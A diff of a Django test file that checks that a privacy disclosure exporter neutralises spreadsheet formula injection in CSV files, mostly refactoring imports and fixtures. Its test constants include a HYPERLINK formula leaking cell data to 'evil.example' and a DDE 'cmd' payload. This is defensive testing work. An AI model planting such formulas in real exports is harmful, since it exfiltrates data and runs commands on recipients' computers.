@@ -12,25 +12,18 @@ import zipfile
 import pytest
 from django.db import connection
 
-from accounts_app import services_data
+from accounts_app.services import data as services_data
 from accounts_app.sources import ContactSource
 from ccucaas_privacy.csv_safe import csv_cell
-from requests_app import services
 from requests_app.models import DisclosurePackage
-from requests_app.packages import _pg_bulk_sql, package_write, private_storage
+from requests_app.services import filing, transitions
+from requests_app.services.packages import _pg_bulk_sql, package_write, private_storage
 
-pytestmark = [pytest.mark.django_db, pytest.mark.rule("P21")]
+pytestmark = [pytest.mark.django_db, pytest.mark.rule("P21"), pytest.mark.usefixtures("file_dirs")]
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'
 FORMULAS = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"]
 REPLY = '=HYPERLINK("https://evil.example/","open")'
-
-
-@pytest.fixture(autouse=True)
-def _dirs(settings, tmp_path):
-    settings.ACCOUNT_CONTENT_DIR = tmp_path / "content"
-    settings.PRIVATE_STORAGE = {"BACKEND": "django.core.files.storage.FileSystemStorage",
-                                "OPTIONS": {"location": str(tmp_path / "private")}}
 
 
 @pytest.fixture
@@ -52,7 +45,7 @@ def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
 def _build(user, request=None) -> zipfile.ZipFile:
     out = io.BytesIO()
     if request is None:
-        request = services.request_file(type="disclosure", channel="portal", details={},
+        request = filing.request_file(type="disclosure", channel="portal", details={},
                                         subject=user)[0]
     package_write(request=request, user=user, out=out, now=request.received_at)
     return zipfile.ZipFile(io.BytesIO(out.getvalue()))
@@ -80,7 +73,7 @@ def test_p21_contacts_csv_neutralises_formula_cells_and_data_json_keeps_them(att
 
 
 def test_p21_copy_and_python_paths_write_the_same_neutralised_csv(attacked, monkeypatch):
-    request = services.request_file(type="disclosure", channel="portal", details={},
+    request = filing.request_file(type="disclosure", channel="portal", details={},
                                     subject=attacked)[0]
     copied = _build(attacked, request).read("contacts.csv")
     monkeypatch.setattr(ContactSource, "bulk", False)  # the Python writer for the same rows
@@ -97,9 +90,9 @@ def test_p21_copy_and_python_paths_write_the_same_neutralised_csv(attacked, monk
 def test_p21_staff_reply_text_is_neutralised_in_the_request_history_csv(
         attacked, officer, django_capture_on_commit_callbacks):
     with django_capture_on_commit_callbacks(execute=True):
-        request, _sent = services.request_file(type="disclosure", channel="portal", details={},
+        request, _sent = filing.request_file(type="disclosure", channel="portal", details={},
                                                subject=attacked)
-        services.request_reply(request=request, actor=officer, text=REPLY)
+        transitions.request_reply(request=request, actor=officer, text=REPLY)
     package = DisclosurePackage.objects.get(request=request)
     with private_storage().open(package.file_name, "rb") as f:
         archive = zipfile.ZipFile(io.BytesIO(f.read()))
